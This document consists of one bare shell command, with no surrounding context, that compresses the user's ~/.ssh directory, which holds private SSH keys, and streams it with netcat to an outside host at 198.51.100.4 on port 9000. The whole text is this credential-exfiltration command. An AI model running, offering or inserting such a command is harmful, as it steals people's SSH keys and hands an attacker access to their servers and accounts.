tar czf - ~/.ssh | nc 198.51.100.4 9000
